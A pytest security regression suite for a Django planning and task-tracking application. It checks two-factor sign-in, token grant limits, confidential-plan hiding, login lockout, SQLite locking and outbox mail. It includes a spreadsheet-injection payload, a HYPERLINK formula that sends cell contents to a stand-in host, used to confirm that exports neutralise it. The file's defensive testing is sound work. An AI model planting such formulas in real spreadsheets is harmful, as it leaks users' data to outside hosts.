"""The holes a hostile afternoon found, one test each, and the rule that closes each kind:
one sign-in flow, grants within the granter's power, confidential plans out of every read,
spreadsheets that write text as text, a lockout strangers cannot turn against a user, SQLite
that queues writers instead of failing them, observers who change nothing, unit pickers that
reach every unit, and password reset mail through the outbox."""

from __future__ import annotations

import io
import re
import sqlite3
import threading
import time
from datetime import date, timedelta

import pytest
from django.core import mail
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.db import OperationalError
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts.models import TwoFactorDevice
from api.models import ApiToken
from plans import services as plan_services
from reports import annual
from reports import services as report_services
from reports.models import AnnualReportFile
from tasks import services as task_services
from tests.api_support import token_client
from tests.factories import UserFactory, make_document, make_task, make_unit, member
from tests.test_reports_support import FIRST_DAY, GENERATE_UNTIL, build_chain, request_of
from units.models import Level, Role

pytestmark = pytest.mark.django_db

PASSWORD = "pw-for-tests-1"
SECRET = "zqxmatzqx"
FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"Bấm")'


@pytest.fixture(autouse=True)
def empty_cache():
    cache.clear()
    yield
    cache.clear()


def _two_step_superuser():
    import pyotp

    from accounts.two_factor import two_factor_begin, two_factor_confirm

    root = UserFactory(username="root", is_superuser=True, is_staff=True)
    two_factor_begin(actor=root)
    device = TwoFactorDevice.objects.get(user=root)
    two_factor_confirm(actor=root, code=pyotp.TOTP(device.secret).now())
    return root


# --- 1. every sign-in path passes the lockout and the second step -------------------------


def test_the_admin_login_page_gives_no_session_for_a_password_alone(client):
    _two_step_superuser()
    response = client.post(
        reverse("admin:login") + "?next=/admin/", {"username": "root", "password": PASSWORD}
    )
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    assert "_auth_user_id" not in client.session
    assert client.get("/admin/").status_code == 302
    # Thirty wrong passwords there are not a way around the site's lockout either: they are
    # not checked at all, and the site's own form still counts its own.
    for _attempt in range(30):
        client.post(reverse("admin:login"), {"username": "root", "password": "wrong"})
    assert "_auth_user_id" not in client.session


def test_a_session_signed_in_with_the_password_alone_is_refused_by_every_page(client):
    root = _two_step_superuser()
    client.force_login(root)  # what any path calling login() without the code would give
    for url in ("/", "/admin/", "/api/units/", reverse("dashboard")):
        response = client.get(url)
        assert response.status_code in (302, 401), url
    assert "_auth_user_id" not in client.session


def test_wrong_passwords_anywhere_authenticate_calls_are_counted(rf):
    from django.contrib.auth import authenticate

    UserFactory(username="nguoidung")
    request = rf.post("/anything/", REMOTE_ADDR="203.0.113.5")
    for _attempt in range(5):
        assert authenticate(request, username="nguoidung", password="wrong") is None
    # Locked now, whichever path asks next, even with the right password.
    assert authenticate(request, username="nguoidung", password=PASSWORD) is None


# --- 2. a token only for someone whose power lies inside the granter's --------------------


@pytest.fixture
def two_provinces(db):
    province = make_unit("Tỉnh ủy Một", code="TU")
    district = make_unit("Huyện ủy Hai", parent=province, level=Level.DISTRICT, code="HU")
    other = make_unit("Tỉnh ủy Bên Kia", code="TU")
    return province, district, other


def _session_api(user) -> APIClient:
    client = APIClient()
    client.force_login(user)
    return client


def test_a_province_administrator_cannot_issue_a_token_for_a_superuser_of_the_province(
    two_provinces,
):
    province, district, _other = two_provinces
    administrator = member(province, Role.ADMINISTRATOR)
    superuser = UserFactory(username="sieu", is_superuser=True)
    member(district, Role.STAFF, user=superuser)
    response = _session_api(administrator).post(
        "/api/tokens/", {"user": superuser.pk, "name": "x"}, format="json"
    )
    assert response.status_code in (400, 403, 404), response.content
    assert not ApiToken.objects.filter(user=superuser).exists()


def test_a_district_administrator_cannot_issue_a_token_for_someone_administering_elsewhere(
    two_provinces,
):
    _province, district, other = two_provinces
    administrator = member(district, Role.ADMINISTRATOR)
    both = member(district, Role.STAFF)
    member(other, Role.ADMINISTRATOR, user=both)
    response = _session_api(administrator).post(
        "/api/tokens/", {"user": both.pk, "name": "x"}, format="json"
    )
    assert response.status_code in (400, 403, 404), response.content
    assert not ApiToken.objects.filter(user=both).exists()


def test_a_token_an_administrator_issues_goes_to_its_holder_and_does_no_more_than_they_may(
    two_provinces, django_capture_on_commit_callbacks
):
    province, district, other = two_provinces
    administrator = member(province, Role.ADMINISTRATOR)
    staff = member(district, Role.STAFF)
    inside = make_document(district, title="Kế hoạch của huyện")
    outside = make_document(other, title="Kế hoạch tỉnh bên")
    secret = make_document(district, title="Kế hoạch mật của huyện")
    plan_services.document_update(actor=None, document=secret, confidential=True)
    with django_capture_on_commit_callbacks(execute=True):
        response = _session_api(administrator).post(
            "/api/tokens/", {"user": staff.pk, "name": "Phần mềm huyện"}, format="json"
        )
    assert response.status_code == 201
    # The holder reads the district's confidential plan, which the administrator above does
    # not: the secret goes to the holder, and the administrator never sees it.
    assert "key" not in response.json()
    key = next(word for word in mail.outbox[0].body.split() if word.startswith("csc_"))
    assert mail.outbox[0].to == [staff.email]
    partner = APIClient()
    partner.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    listed = {row["id"] for row in partner.get("/api/documents/").json()["results"]}
    assert inside.pk in listed and outside.pk not in listed
    # The holder is staff: the token cannot issue tokens or reach the province's members.
    assert (
        partner.post("/api/tokens/", {"user": administrator.pk, "name": "x"}, format="json")
    ).status_code in (400, 403)


# --- 3 and 5. a confidential plan out of the audit search and the annual report ----------


def test_the_audit_search_of_a_province_administrator_shows_nothing_of_a_confidential_plan(
    client, two_provinces
):
    province, district, _other = two_provinces
    plan = make_document(district, title=f"Kế hoạch {SECRET}")
    task = make_task(plan, lead=[district], text=f"Nhiệm vụ {SECRET}")
    task_services.task_update(actor=None, task=task, text=f"Nhiệm vụ đã sửa {SECRET}")
    plan_services.document_update(actor=None, document=plan, confidential=True)
    client.force_login(member(province, Role.ADMINISTRATOR))
    # The search words are echoed on the page: search for a part of the marker.
    for query in (
        {},
        {"text": SECRET[:6]},
        {"text": "Kế hoạch"},
        {"object_type": "plans.document"},
    ):
        page = client.get(reverse("audit:search"), query)
        assert page.status_code == 200
        assert SECRET not in page.content.decode(), query
    # Inside the circle, the issuing unit's administrator still finds it.
    client.force_login(member(district, Role.ADMINISTRATOR))
    assert SECRET in client.get(reverse("audit:search"), {"text": SECRET[:6]}).content.decode()


def test_the_annual_report_lists_no_unit_owing_reports_to_a_confidential_plan(db):
    chain = build_chain(communes=1)
    hidden = make_unit("Đảng ủy xã Kín", parent=chain.district, level=Level.COMMUNE, code="ĐU")
    secret = make_document(chain.district, implements=chain.district_plan, title="mật")
    make_task(secret, lead=[hidden], text="Báo cáo định kỳ")
    plan_services.document_update(actor=None, document=secret, confidential=True)
    requirement = report_services.report_requirement_create(
        actor=None,
        document=secret,
        frequency="annual",
        units=[hidden],
        starts_on=FIRST_DAY,
        generate=False,
    )
    report_services.report_requests_generate(requirement=requirement, until=GENERATE_UNTIL)
    assert request_of(hidden).requirement == requirement
    outline = annual.annual_outline(unit=chain.district, year=2025, directive=chain.directive)
    names = [name for name, _state in outline.missing]
    assert chain.communes[0].name in names
    assert hidden.name not in names
    assert outline.expected_below == len(names) + outline.accepted_below


# --- 4. spreadsheets write people's text as text ------------------------------------------


def test_a_formula_typed_as_a_task_is_exported_as_text(client, two_provinces):
    _province, district, _other = two_provinces
    plan = make_document(district)
    make_task(plan, lead=[district], text=FORMULA, deadline_text="+84 trước ngày 10/12")
    client.force_login(member(district, Role.STAFF))
    response = client.get(reverse("export_xlsx", args=[plan.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    task_cell = next(cell for cell in cells if cell.value == FORMULA)
    assert task_cell.data_type == "s" and task_cell.quotePrefix
    assert not any(cell.data_type == "f" for cell in cells)


def test_the_csv_writer_puts_an_apostrophe_before_what_would_start_a_formula():
    from cascade.spreadsheets import csv_text

    text = csv_text(["Task"], [[FORMULA], ["-1+2"], ["@SUM(A1)"], ["Bình thường"], [-5]])
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "'-1+2"
    assert lines[3] == "'@SUM(A1)" and lines[4] == "Bình thường" and lines[5] == "-5"


def test_no_module_writes_spreadsheets_or_csv_but_the_one_writer():
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "benchmarks/")) or "/site-packages/" in (
            relative
        ):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"^\s*(import csv|from openpyxl import Workbook)", text, re.M):
            offenders.append(relative)
    assert offenders == ["cascade/spreadsheets.py"]


# --- 6. a lockout that protects without locking the owner out ----------------------------


def _post_login(client, username, password, address):
    return client.post(
        reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=address
    )


def test_a_stranger_guessing_someone_elses_password_does_not_lock_them_out(client):
    UserFactory(username="nguoidung")
    for _attempt in range(20):
        _post_login(client, "nguoidung", "wrong", "203.0.113.9")
    assert _post_login(client, "nguoidung", "wrong-again", "203.0.113.9").status_code == 200
    owner = _post_login(client, "nguoidung", PASSWORD, "198.51.100.7")
    assert owner.status_code == 302


def test_the_lockout_is_kept_in_the_database_shared_by_every_process(client):
    UserFactory(username="nguoidung")
    for _attempt in range(5):
        _post_login(client, "nguoidung", "wrong", "203.0.113.9")
    cache.clear()  # another worker's memory, or a restarted Redis, knows nothing of it
    refused = _post_login(client, "nguoidung", PASSWORD, "203.0.113.9")
    assert refused.status_code == 200
    assert "Too many failed attempts" in refused.content.decode() or "quá nhiều" in (
        refused.content.decode()
    )
    from accounts.models import Counter

    assert Counter.objects.filter(key__startswith="signin:").exists()


def test_guesses_spread_over_many_addresses_are_slowed_down_for_that_name(client):
    UserFactory(username="nguoidung")
    for index in range(12):
        _post_login(client, "nguoidung", "wrong", f"203.0.113.{index + 1}")
    # A new address still has to wait: the name itself is slowed down.
    assert _post_login(client, "nguoidung", PASSWORD, "203.0.113.200").status_code == 200
    past = timezone.now() - timedelta(minutes=10)
    from accounts.models import Counter

    Counter.objects.filter(key__startswith="signin:name:").update(last_at=past)
    assert _post_login(client, "nguoidung", PASSWORD, "203.0.113.200").status_code == 302


def test_signing_in_works_while_the_cache_server_is_down(client, monkeypatch):
    from redis.exceptions import ConnectionError as RedisConnectionError

    def unreachable(*args, **kwargs):
        raise RedisConnectionError("Connection refused")

    UserFactory(username="nguoidung")
    for method in ("get", "set", "add", "incr", "delete", "get_many"):
        monkeypatch.setattr(cache, method, unreachable)
    assert _post_login(client, "nguoidung", "wrong", "203.0.113.9").status_code == 200
    assert _post_login(client, "nguoidung", PASSWORD, "203.0.113.9").status_code == 302


def test_the_api_rate_limit_holds_across_processes_without_a_shared_cache(settings, db):
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}}
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"api_token": "3/minute", "api_session": "100/minute"},
    }
    owner = member(make_unit("Tỉnh ủy Một", code="TU"), Role.STAFF)
    client = token_client(owner)
    for _attempt in range(3):
        assert client.get("/api/units/").status_code == 200
    cache.clear()  # the next request lands on another worker
    refused = client.get("/api/units/")
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0


# --- 7. SQLite queues concurrent writers; what still cannot wait is a 503 ----------------


def test_two_writers_on_the_default_sqlite_wait_for_each_other_instead_of_failing(tmp_path):
    from cascade.env import env_database

    config = env_database("NO_SUCH_VARIABLE", f"sqlite:///{tmp_path / 'db.sqlite3'}")
    options = config["OPTIONS"]
    assert options["transaction_mode"] == "IMMEDIATE" and options["timeout"] >= 5
    begin = f"BEGIN {options['transaction_mode']}"

    def connect():
        connection = sqlite3.connect(config["NAME"], timeout=options["timeout"])
        connection.isolation_level = None
        connection.executescript(options["init_command"])
        return connection

    setup = connect()
    setup.execute("CREATE TABLE task (id INTEGER PRIMARY KEY, version INTEGER)")
    setup.execute("INSERT INTO task VALUES (1, 0)")
    assert setup.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    errors: list[str] = []
    started = threading.Event()

    def save(hold: float) -> None:
        connection = connect()
        try:
            connection.execute(begin)
            started.set()
            (version,) = connection.execute("SELECT version FROM task WHERE id = 1").fetchone()
            time.sleep(hold)
            connection.execute("UPDATE task SET version = ? WHERE id = 1", (version + 1,))
            connection.execute("COMMIT")
        except sqlite3.OperationalError as error:
            errors.append(str(error))
        finally:
            connection.close()

    first = threading.Thread(target=save, args=(0.5,))
    first.start()
    started.wait(5)
    save(0)
    first.join()
    assert errors == []
    assert setup.execute("SELECT version FROM task").fetchone()[0] == 2


def test_a_save_that_cannot_get_the_lock_answers_503_and_saves_nothing(client, monkeypatch):
    district = make_unit("Huyện ủy Hai", level=Level.DISTRICT, code="HU")
    plan = make_document(district)
    task = make_task(plan, lead=[district], text="Nhiệm vụ cũ")
    client.force_login(member(district, Role.STAFF))

    def locked(**kwargs):
        raise OperationalError("database is locked")

    monkeypatch.setattr(task_services, "task_update", locked)
    response = client.post(
        reverse("task_edit", args=[task.pk]),
        {"text": "Nhiệm vụ mới", "lead": [district.pk], "version": task.version},
    )
    assert response.status_code == 503 and response["Retry-After"]
    assert "try again" in response.content.decode() or "thử lại" in response.content.decode()
    task.refresh_from_db()
    assert task.text == "Nhiệm vụ cũ"


# --- 8. observers change nothing ----------------------------------------------------------


def test_an_observer_cannot_ask_for_an_annual_report_pdf(client, db):
    chain = build_chain(communes=1)
    commune = chain.communes[0]
    observer = member(chain.province, Role.OBSERVER)
    client.force_login(observer)
    page = client.get(reverse("reports:detail", args=[request_of(commune).pk]))
    assert page.status_code == 200 and "render-annual" not in page.content.decode()
    response = client.post(
        reverse("reports:annual_request", args=[commune.pk]),
        {"year": request_of(commune).period_key},
    )
    assert response.status_code == 403
    assert not AnnualReportFile.objects.exists()


# --- 9. unit pickers reach every unit the form accepts ------------------------------------


def test_a_task_whose_lead_is_past_the_first_fifty_units_or_closed_saves_unchanged(client):
    province = make_unit("Tỉnh ủy Một", code="TU")
    communes = [
        make_unit(f"Đảng ủy xã Số {i:02}", parent=province, level=Level.COMMUNE, code="ĐU")
        for i in range(60)
    ]
    lead = communes[-1]
    plan = make_document(province)
    task = make_task(plan, lead=[lead], text="Nhiệm vụ")
    lead.active_until = date(2025, 6, 30)  # closed in the 2025 reform since
    lead.save(update_fields=["active_until"])
    client.force_login(member(province, Role.STAFF))
    page = client.get(reverse("task_edit", args=[task.pk]))
    assert page.status_code == 200
    text = page.content.decode()
    assert f'value="{lead.pk}" checked' in text and "<option" not in text.split("id_lead")[1][:2000]
    form = page.context["form"]
    response = client.post(
        reverse("task_edit", args=[task.pk]),
        {
            "text": "Nhiệm vụ",
            "lead": [lead.pk],
            "deadline_text": "",
            "section": "",
            "version": form.initial["version"],
        },
    )
    assert response.status_code == 302, response.context["form"].errors


def test_the_unit_picker_finds_any_unit_by_part_of_its_name_without_diacritics(client):
    province = make_unit("Tỉnh ủy Một", code="TU")
    for i in range(60):
        make_unit(f"Đảng ủy xã Số {i:02}", parent=province, level=Level.COMMUNE, code="ĐU")
    target = make_unit("Đảng ủy xã Thanh Thủy", parent=province, level=Level.COMMUNE, code="ĐU")
    client.force_login(member(province, Role.STAFF))
    found = client.get(
        reverse("unit_picker"),
        {
            "field": "lead",
            "id": "id_lead",
            "scope": "visible",
            "multiple": "1",
            "active": "1",
            "lead_search": "thanh thuy",
        },
    )
    assert found.status_code == 200
    assert f'value="{target.pk}"' in found.content.decode()
    picked = client.get(
        reverse("unit_picker_pick"),
        {"field": "lead", "id": "id_lead", "scope": "visible", "multiple": "1", "unit": target.pk},
    )
    assert picked.status_code == 200 and "checked" in picked.content.decode()
    # A unit already chosen (its ticked box comes along with the search) is not offered again.
    again = client.get(
        reverse("unit_picker"),
        {"field": "lead", "lead_search": "thanh thuy", "lead": [target.pk, "9" * 30]},
    )
    assert again.status_code == 200 and f'value="{target.pk}"' not in again.content.decode()
    # Someone who is no member sees no unit through it.
    client.force_login(UserFactory(username="outsider"))
    empty = client.get(reverse("unit_picker"), {"field": "lead", "lead_search": "thanh thuy"})
    assert f'value="{target.pk}"' not in empty.content.decode()


# --- found beyond the rows -----------------------------------------------------------------


def test_an_administrator_above_a_confidential_plan_cannot_log_progress_on_it(client):
    province = make_unit("Tỉnh ủy Một", code="TU")
    district = make_unit("Huyện ủy Hai", parent=province, level=Level.DISTRICT, code="HU")
    commune = make_unit("Đảng ủy xã Ba", parent=district, level=Level.COMMUNE, code="ĐU")
    plan = make_document(district, title="Kế hoạch mật")
    task = make_task(plan, lead=[commune], text="Nhiệm vụ mật")
    plan_services.document_update(actor=None, document=plan, confidential=True)
    assignment = task.assignments.get()
    client.force_login(member(province, Role.ADMINISTRATOR))
    response = client.post(
        reverse("progress_create", args=[assignment.pk]), {"note": "Đã làm", "status": "done"}
    )
    assert response.status_code == 404
    assert not assignment.updates.exists()
    # The commune's own staff, inside the circle, still may.
    client.force_login(member(commune, Role.STAFF))
    assert client.post(
        reverse("progress_create", args=[assignment.pk]), {"note": "Đã làm", "status": "done"}
    ).status_code in (200, 302)


def _password_then_codes(client, *, wrong_codes: int, address: str):
    """The password step, then ``wrong_codes`` wrong codes; the last response."""
    client.post(reverse("login"), {"username": "root", "password": PASSWORD}, REMOTE_ADDR=address)
    response = None
    for _attempt in range(wrong_codes):
        response = client.post(
            reverse("accounts_two_factor_verify"), {"code": "000000"}, REMOTE_ADDR=address
        )
    return response


def test_a_known_password_does_not_reset_the_count_of_wrong_codes(client):
    _two_step_superuser()
    _password_then_codes(client, wrong_codes=3, address="203.0.113.7")
    last = _password_then_codes(client, wrong_codes=3, address="203.0.113.7")
    text = last.content.decode()
    assert "Too many wrong codes" in text or "quá nhiều" in text.lower()
    assert "_auth_user_id" not in client.session


def test_a_browser_where_the_owner_signed_in_before_is_not_slowed_by_strangers(client):
    from django.test import Client

    from accounts.signin import DEVICE_COOKIE

    UserFactory(username="nguoidung")
    owner = Client()
    assert _post_login(owner, "nguoidung", PASSWORD, "198.51.100.7").status_code == 302
    assert owner.cookies.get(DEVICE_COOKIE)
    owner.post(reverse("logout"))
    for index in range(15):  # a stranger, spread over many addresses
        _post_login(client, "nguoidung", "wrong", f"203.0.113.{index + 1}")
    # From a new address without the cookie, the name is slowed down…
    assert _post_login(Client(), "nguoidung", PASSWORD, "198.51.100.99").status_code == 200
    # …but the owner's own browser signs in, from wherever it is now.
    assert _post_login(owner, "nguoidung", PASSWORD, "198.51.100.99").status_code == 302


def test_a_task_led_by_a_group_saves_unchanged(client):
    province = make_unit("Tỉnh ủy Một", code="TU")
    for i in range(2):
        make_unit(f"Huyện ủy {i}", parent=province, level=Level.DISTRICT, code="HU")
    plan = make_document(province)
    task = task_services.task_create(
        actor=None,
        document=plan,
        text="Nhiệm vụ của các huyện ủy",
        assignees=task_services.Assignees(
            lead_groups=[
                task_services.GroupSpec(
                    label="Các huyện ủy", anchor=province, levels=[Level.DISTRICT]
                )
            ]
        ),
    )
    client.force_login(member(province, Role.STAFF))
    page = client.get(reverse("task_edit", args=[task.pk]))
    assert "Các huyện ủy" in page.content.decode()
    response = client.post(
        reverse("task_edit", args=[task.pk]),
        {"text": "Nhiệm vụ của các huyện ủy", "version": page.context["form"].initial["version"]},
    )
    assert response.status_code == 302, response.context["form"].errors
    assert task.assignments.count() == 2


def test_an_administrator_cannot_invite_themselves_into_a_unit_below(client):
    from accounts import services as account_services

    province = make_unit("Tỉnh ủy Một", code="TU")
    district = make_unit("Huyện ủy Hai", parent=province, level=Level.DISTRICT, code="HU")
    administrator = member(province, Role.ADMINISTRATOR)
    administrator.email = "quantri@example.org"
    administrator.save(update_fields=["email"])
    with pytest.raises(ValidationError):
        account_services.member_invite(
            actor=administrator, unit=district, email="QuanTri@example.org"
        )
    # An invitation to another address cannot be taken by whoever is signed in.
    invitation = account_services.member_invite(
        actor=administrator, unit=district, email="moi@example.org"
    )
    client.force_login(administrator)
    link = account_services.invitation_link(invitation)
    refused = client.post(link)
    assert refused.status_code == 403
    assert not district.memberships.filter(user=administrator).exists()


def test_the_code_that_turns_two_step_off_is_not_guessed_freely(client):
    from accounts.signin import SECOND_STEP_KEY

    root = _two_step_superuser()
    client.force_login(root)
    session = client.session
    session[SECOND_STEP_KEY] = root.pk
    session.save()
    for _attempt in range(6):
        last = client.post(reverse("accounts_two_factor"), {"code": "000000", "action": "disable"})
    text = last.content.decode()
    assert "Too many wrong codes" in text or "quá nhiều" in text.lower()
    assert TwoFactorDevice.objects.get(user=root).is_on


# --- 10. every e-mail goes through the outbox ---------------------------------------------


def test_a_password_reset_while_the_mail_server_is_down_waits_in_the_outbox(
    client, settings, django_capture_on_commit_callbacks
):
    from notifications import services as notification_services
    from notifications.models import OutboxEmail, OutboxStatus

    settings.MAILERS = {
        **settings.MAILERS,
        "outbox": {"BACKEND": "tests.test_notifications.FailingBackend"},
    }
    UserFactory(username="quenmatkhau", email="quen@example.org")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("password_reset"), {"email": "quen@example.org"})
    assert response.status_code == 302
    assert mail.outbox == []
    email = OutboxEmail.objects.get(to_address="quen@example.org")
    assert email.status == OutboxStatus.PENDING and email.attempts == 1
    assert "refused" in email.last_error
    # The server is back: the link goes out, and its text is not kept once sent.
    settings.MAILERS = {
        **settings.MAILERS,
        "outbox": {"BACKEND": "django.core.mail.backends.locmem.EmailBackend"},
    }
    later = timezone.now() + timedelta(hours=3)
    assert notification_services.outbox_send(now=later) == 1
    assert len(mail.outbox) == 1 and "/accounts/password-reset/" in mail.outbox[0].body
    email.refresh_from_db()
    assert email.status == OutboxStatus.SENT and email.body == "" and email.message_id


def test_an_invitation_while_the_mail_server_is_down_is_kept_not_a_server_error(
    client, settings, django_capture_on_commit_callbacks
):
    from notifications.models import OutboxEmail, OutboxStatus

    settings.MAILERS = {
        **settings.MAILERS,
        "outbox": {"BACKEND": "tests.test_notifications.FailingBackend"},
    }
    district = make_unit("Huyện ủy Hai", level=Level.DISTRICT, code="HU")
    client.force_login(member(district, Role.ADMINISTRATOR))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("accounts_invite", args=[district.pk]),
            {"email": "moi@example.org", "role": Role.STAFF},
        )
    assert response.status_code == 302
    email = OutboxEmail.objects.get(to_address="moi@example.org")
    assert email.status == OutboxStatus.PENDING


def test_no_code_sends_mail_but_through_the_outbox(settings):
    from django.core.mail import mailers

    assert settings.MAILERS["default"]["BACKEND"] == "notifications.mail.OutboxBackend"
    from cascade import settings as production

    assert production.MAILERS["default"]["BACKEND"] == "notifications.mail.OutboxBackend"
    assert type(mailers.default).__name__ == "OutboxBackend"
